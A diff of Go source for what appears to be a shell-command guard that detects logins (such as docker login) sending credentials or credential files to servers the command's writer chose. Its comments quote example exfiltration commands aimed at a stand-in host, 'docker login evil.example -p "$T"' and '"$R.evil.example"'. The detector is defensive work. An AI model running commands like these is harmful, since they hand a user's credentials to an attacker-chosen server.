@@ -360,14 +360,14 @@ func usesSafely(ctx *Context, in *Input, c *Command, name string) bool {
 		}
 		for _, o := range in.Commands {
 			for _, f := range o.Feeds {
-				if s, p, ok := loginFromEnv(o, name); f == c && ok && p.hasAny(s.extra().secretStdin) {
+				if s, p, ok := loginFromEnv(in, o, name); f == c && ok && p.hasAny(s.extra().secretStdin) {
 					return true
 				}
 			}
 		}
 		return false
 	}
-	s, p, ok := loginFromEnv(c, name)
+	s, p, ok := loginFromEnv(in, c, name)
 	if !ok || fed > 0 && !p.hasAny(s.extra().secretStdin) {
 		return false
 	}
@@ -521,7 +521,7 @@ func psLoginInput(in *Input, c *Command, name string) bool {
 	}
 	for _, o := range in.Commands {
 		if slices.Contains(o.Feeds, c) && len(o.Wrappers) == 0 {
-			s, p, ok := loginFromEnv(o, name)
+			s, p, ok := loginFromEnv(in, o, name)
 			return ok && p.hasAny(s.extra().secretStdin) && len(o.Feeds) == 1
 		}
 	}
@@ -535,24 +535,94 @@ func psLoginInput(in *Input, c *Command, name string) bool {
 // destination the command's writer did not choose. Any other server
 // written out (docker login evil.example -p "$T") sends the credential
 // where the writer says, and stays refused.
-func loginFromEnv(c *Command, name string) (*spec, parsed, bool) {
+func loginFromEnv(in *Input, c *Command, name string) (*spec, parsed, bool) {
+	s, p, ok := loginSpec(c)
+	if !ok {
+		return nil, parsed{}, false
+	}
+	if server, _ := chosenServer(in, c, p, name); server != "" {
+		return nil, parsed{}, false
+	}
+	return s, p, true
+}
+
+// loginSpec returns the spec of c and c's words parsed by it when c is
+// a login of loginSpecs: one given a secret (spec.extra's secret or
+// secretStdin).
+func loginSpec(c *Command) (*spec, parsed, bool) {
 	s, rest := lookupSpec(c)
 	if s == nil || len(s.extra().secret)+len(s.extra().secretStdin) == 0 {
 		return nil, parsed{}, false
 	}
-	p := parseArgs(s, rest)
+	return s, parseArgs(s, rest), true
+}
+
+// chosenServer returns the server a login c, parsed as p, sends the
+// credential name to when the command's writer chose it: an operand or
+// a --hostname written out that is no host of the service the name is
+// for (credService), or one made by the input at run time (a command's
+// output, "$(cat host.txt)", a variable the input sets or loops over,
+// literal text around a variable: "$R.evil.example"). A server from the
+// environment the input runs in ("$CI_REGISTRY") is the user's choice.
+// "" when none; opt is the option that names it ("" for an operand).
+func chosenServer(in *Input, c *Command, p parsed, name string) (server, opt string) {
 	_, domains := credService(name)
+	chosen := func(w Word) bool {
+		if w.Literal {
+			return !serviceHost(w.Value, domains)
+		}
+		return !envOnlyWord(in, c.Grammar, w.Value)
+	}
 	for _, a := range p.operands {
-		if a.Literal && !serviceHost(a.Value, domains) {
-			return nil, parsed{}, false
+		if chosen(a) {
+			return a.Value, ""
 		}
 	}
-	for _, v := range p.values("--hostname", "-h") {
-		if !strings.HasPrefix(v, "$") {
-			return nil, parsed{}, false
+	for _, o := range p.opts {
+		if (o.name == "--hostname" || o.name == "-h") && chosen(Word{Value: o.value, Literal: !strings.ContainsAny(o.value, "$%`")}) {
+			return o.value, o.name
 		}
 	}
-	return s, p, true
+	return "", ""
+}
+
+// envOnlyWord reports whether v, a word after quote removal, is made
+// only of expansions of variables ($NAME, ${NAME}; PowerShell's
+// $env:NAME, ${env:NAME}; cmd's %NAME%) that the input neither sets nor
+// loops over: a value the environment it runs in gives.
+func envOnlyWord(in *Input, g lexer.Grammar, v string) bool {
+	if v == "" {
+		return false
+	}
+	for v != "" {
+		name, rest, fold, ok := leadingVar(v)
+		// PowerShell's variables but $env:NAME are the input's own;
+		// cmd expands only %NAME%; a posix shell's $env:X is $env.
+		if !ok || !isName([]byte(name)) || fold == g.IsPosix() || g == lexer.Cmd && v[0] != '%' {
+			return false
+		}
+		v = rest
+		// The name as setVars keeps it: cmd's %NAME% in upper case,
+		// PowerShell's $env:NAME in any case.
+		key := name
+		switch g {
+		case lexer.Cmd:
+			key = cmdVarKey(name)
+		case lexer.PowerShell:
+			key = "$env:" + name
+		}
+		if in.loops(key) {
+			return false
+		}
+		if in != nil {
+			for k := range in.setVars {
+				if k == key || g == lexer.PowerShell && strings.EqualFold(k, key) {
+					return false
+				}
+			}
+		}
+	}
+	return true
 }
 
 // loginReadsFile reports whether o, run by no wrapper, is a login that
@@ -565,9 +635,18 @@ func loginFromEnv(c *Command, name string) (*spec, parsed, bool) {
 // from the environment or be a host of the service the file's name says
 // (loginFromEnv: acr_token to *.azurecr.io): a server written out sends
 // the file where the writer chose.
-func loginReadsFile(o *Command, p string) bool {
+func loginReadsFile(in *Input, o *Command, p string) bool {
+	ok, server, _ := loginOfFile(in, o, p)
+	return ok && server == ""
+}
+
+// loginOfFile reports whether o is a login that reads the file p as its
+// one secret as loginReadsFile says, the server aside, and returns the
+// server it sends it to that the writer chose (chosenServer: "" when
+// none) and the option naming it.
+func loginOfFile(in *Input, o *Command, p string) (ok bool, server, opt string) {
 	if len(o.Wrappers) > 0 || credPathRule(p) != "cred.cloud-file" || !readsSecretStdin(o) {
-		return false
+		return false, "", ""
 	}
 	base := strings.TrimLeft(path.Base(strings.ReplaceAll(p, `\`, "/")), ".")
 	base = strings.TrimSuffix(base, path.Ext(base))
@@ -576,10 +655,49 @@ func loginReadsFile(o *Command, p string) bool {
 		one = one || secretFileWords.has(w)
 	}
 	if !one {
-		return false
+		return false, "", ""
 	}
-	_, _, ok := loginFromEnv(o, strings.NewReplacer("-", "_", ".", "_").Replace(strings.TrimLeft(base, "_-")))
-	return ok
+	_, parsed, ok := loginSpec(o)
+	if !ok {
+		return false, "", ""
+	}
+	server, opt = chosenServer(in, o, parsed, strings.NewReplacer("-", "_", ".", "_").Replace(strings.TrimLeft(base, "_-")))
+	return true, server, opt
+}
+
+// loginElsewhere returns the finding of c reading the file p (shown as
+// shown) when what keeps it from being a login's one secret
+// (loginReadsFile) is only the server the writer chose: c the login,
+// given the file on its standard input, or the one login all c prints
+// goes into when c only prints what it reads (prints), the server
+// written out. The guard cannot tell that server
+// is the one the credential is for; the user can log in there once.
+func loginElsewhere(ctx *Context, c *Command, p, shown string, prints bool) (Finding, bool) {
+	login := c
+	if !readsSecretStdin(c) {
+		if ctx == nil || ctx.Input == nil || len(c.Redirs) > 0 || c.assigned || len(c.Wrappers) > 0 || !prints {
+			return Finding{}, false
+		}
+		login = soleReader(ctx.Input, c)
+		if login == nil || len(login.Feeds) != 1 {
+			return Finding{}, false
+		}
+	}
+	var in *Input
+	if ctx != nil {
+		in = ctx.Input
+	}
+	ok, server, opt := loginOfFile(in, login, p)
+	s, _ := lookupSpec(login)
+	if !ok || server == "" || s == nil || strings.ContainsAny(server, "$`%(") {
+		return Finding{}, false
+	}
+	again := s.path + " " + server
+	if opt != "" {
+		again = s.path + " " + opt + " " + server
+	}
+	return finding("cred.cloud-file", c, "it sends the credential file "+shown+" to "+server+", a server the command names, which the guard cannot tell is the one the credential is for",
+		"ask the user to log in there once (`"+again+"`): the tool keeps the login for later commands"), true
 }
 
 // secretFileWords are the words of a file's name that say it holds one
@@ -594,7 +712,7 @@ func fileLoggedIn(ctx *Context, c *Command, p string) bool {
 		return false
 	}
 	login := soleReader(ctx.Input, c)
-	return login != nil && len(login.Feeds) == 1 && loginReadsFile(login, p)
+	return login != nil && len(login.Feeds) == 1 && loginReadsFile(ctx.Input, login, p)
 }
 
 // soleReader returns the one command of in that c feeds directly, or nil
